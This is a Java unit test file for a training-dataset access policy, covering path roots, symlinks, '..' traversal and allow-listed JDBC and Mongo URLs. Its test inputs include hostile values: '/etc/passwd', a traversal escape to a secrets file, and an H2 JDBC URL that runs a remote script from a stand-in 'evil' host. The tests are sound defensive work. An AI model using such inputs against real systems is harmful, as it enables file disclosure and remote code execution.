package dev.mailroom.training.dataset;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DatasetPolicyTest {

    @TempDir
    Path dir;

    private Path root;
    private Path outside;
    private DatasetPolicy policy;

    @BeforeEach
    void layout() throws IOException {
        root = Files.createDirectories(dir.resolve("datasets"));
        outside = Files.createDirectories(dir.resolve("private"));
        Files.writeString(outside.resolve("secrets.jsonl"), "{}");
        Files.writeString(root.resolve("train.jsonl"), "{}");
        policy = DatasetPolicy.of(
                List.of(root.toString()),
                List.of("jdbc:postgresql://127\\.0\\.0\\.1:5432/[a-z_]+"),
                List.of("mongodb://([^@/?]+@)?127\\.0\\.0\\.1(:[0-9]+)?/?"));
    }

    @Test
    void filesAndFoldersUnderARootAreAllowed() throws IOException {
        Files.createDirectories(root.resolve("letters/invoice"));

        assertThat(policy.check(
                        "dataset", new FileDataset(root.resolve("train.jsonl").toString())))
                .isEqualTo(new FileDataset(root.resolve("train.jsonl").toString()));
        policy.check("dataset", new FileDataset(root.resolve("letters").toString()));
        policy.check(
                "testDataset",
                new FileDataset(root.resolve("not-yet-written.jsonl").toString()));
    }

    @Test
    void pathsOutsideTheRootsAreRefusedNamingTheField() {
        assertThatThrownBy(() -> policy.check(
                        "dataset",
                        new FileDataset(outside.resolve("secrets.jsonl").toString())))
                .isInstanceOfSatisfying(DatasetNotAllowedException.class, e -> {
                    assertThat(e.field()).isEqualTo("dataset.path");
                    assertThat(e.code()).isEqualTo("dataset-not-allowed");
                })
                .hasMessageContaining("is not under a dataset root")
                .hasMessageContaining("mailroom.training.dataset-roots");
        assertThatThrownBy(() -> policy.check("testDataset", new FileDataset("/etc/passwd")))
                .isInstanceOfSatisfying(DatasetNotAllowedException.class, e -> assertThat(e.field())
                        .isEqualTo("testDataset.path"));
        // a sibling whose name starts like the root is not under it
        assertThatThrownBy(() -> policy.check(
                        "dataset",
                        new FileDataset(dir.resolve("datasets-old/x.jsonl").toString())))
                .isInstanceOf(DatasetNotAllowedException.class);
    }

    @Test
    void dotDotAndRelativePathsAreRefused() {
        String escape = root + "/../private/secrets.jsonl";
        String harmless = root + "/sub/../train.jsonl";

        assertThatThrownBy(() -> policy.check("dataset", new FileDataset(escape)))
                .isInstanceOf(DatasetNotAllowedException.class)
                .hasMessageContaining("must not contain '..'");
        assertThatThrownBy(() -> policy.check("dataset", new FileDataset(harmless)))
                .isInstanceOf(DatasetNotAllowedException.class)
                .hasMessageContaining("must not contain '..'");
        assertThatThrownBy(() -> policy.check("dataset", new FileDataset("datasets/train.jsonl")))
                .isInstanceOf(DatasetNotAllowedException.class)
                .hasMessageContaining("must be an absolute path");
    }

    @Test
    void symbolicLinksOutOfARootAreRefused() throws IOException {
        Path fileLink = Files.createSymbolicLink(root.resolve("innocent.jsonl"), outside.resolve("secrets.jsonl"));
        Path dirLink = Files.createSymbolicLink(root.resolve("shared"), outside);

        assertThatThrownBy(() -> policy.check("dataset", new FileDataset(fileLink.toString())))
                .isInstanceOf(DatasetNotAllowedException.class)
                .hasMessageContaining("resolving to '" + outside.toRealPath().resolve("secrets.jsonl") + "'");
        assertThatThrownBy(() -> policy.check("dataset", new FileDataset(dirLink.toString())))
                .isInstanceOf(DatasetNotAllowedException.class);
        // a file that does not exist yet, under a linked directory, is judged where the link points
        assertThatThrownBy(() -> policy.check(
                        "dataset",
                        new FileDataset(dirLink.resolve("later.jsonl").toString())))
                .isInstanceOf(DatasetNotAllowedException.class);
    }

    @Test
    void aRootThatIsItselfALinkAllowsWhatLiesUnderItsTarget() throws IOException {
        Path target = Files.createDirectories(dir.resolve("volume/datasets"));
        Files.writeString(target.resolve("a.jsonl"), "{}");
        Path linkedRoot = Files.createSymbolicLink(dir.resolve("linked-root"), target);
        DatasetPolicy linked = DatasetPolicy.of(List.of(linkedRoot.toString()), List.of(), List.of());

        linked.check("dataset", new FileDataset(linkedRoot.resolve("a.jsonl").toString()));
        linked.check("dataset", new FileDataset(target.resolve("a.jsonl").toString()));
    }

    @Test
    void jdbcUrlsMustMatchTheAllowListAndAreNotEchoed() {
        policy.check("dataset", jdbc("jdbc:postgresql://127.0.0.1:5432/warehouse"));

        for (String url : List.of(
                "jdbc:postgresql://10.0.0.9:5432/warehouse",
                "jdbc:postgresql://127.0.0.1:5432/warehouse?socketFactory=x&password=hunter2",
                "jdbc:postgresql://127.0.0.1:5432/warehouse;password=hunter2",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")) {
            assertThatThrownBy(() -> policy.check("dataset", jdbc(url)))
                    .as(url)
                    .isInstanceOfSatisfying(DatasetNotAllowedException.class, e -> assertThat(e.field())
                            .isEqualTo("dataset.url"))
                    .hasMessage(
                            "dataset.url is not an allowed JDBC URL (allow-list: mailroom.training.allowed-jdbc-urls)");
        }
    }

    @Test
    void mongoUrisMustMatchTheAllowListAndAreNotEchoed() {
        policy.check("dataset", mongo("mongodb://127.0.0.1:27017"));
        policy.check("dataset", mongo("mongodb://etl:s3cret@127.0.0.1:27017/"));

        assertThatThrownBy(() -> policy.check("testDataset", mongo("mongodb://etl:s3cret@mongo.example.com/")))
                .isInstanceOfSatisfying(DatasetNotAllowedException.class, e -> assertThat(e.field())
                        .isEqualTo("testDataset.uri"))
                .hasMessageNotContaining("s3cret")
                .hasMessageNotContaining("example.com");
    }

    @Test
    void emptyListsAllowNothingAndUnrestrictedAllowsEverything() {
        DatasetPolicy none = DatasetPolicy.of(List.of(), List.of(), List.of());

        assertThatThrownBy(() -> none.check(
                        "dataset", new FileDataset(root.resolve("train.jsonl").toString())))
                .isInstanceOf(DatasetNotAllowedException.class);
        assertThatThrownBy(() -> none.check("dataset", jdbc("jdbc:postgresql://127.0.0.1:5432/warehouse")))
                .isInstanceOf(DatasetNotAllowedException.class);
        assertThatThrownBy(() -> none.check("dataset", mongo("mongodb://127.0.0.1")))
                .isInstanceOf(DatasetNotAllowedException.class);
        DatasetPolicy.unrestricted()
                .check(
                        "dataset",
                        new FileDataset(outside.resolve("secrets.jsonl").toString()));
        DatasetPolicy.unrestricted().check("dataset", jdbc("jdbc:h2:mem:x"));
        DatasetPolicy.unrestricted().check("dataset", new FileDataset("relative/train.jsonl"));
    }

    private static JdbcDataset jdbc(String url) {
        return new JdbcDataset(url, "etl", "pw", "SELECT 1", null, null, null);
    }

    private static MongoDataset mongo(String uri) {
        return new MongoDataset(uri, "warehouse", "letters", null, null, null, null);
    }
}
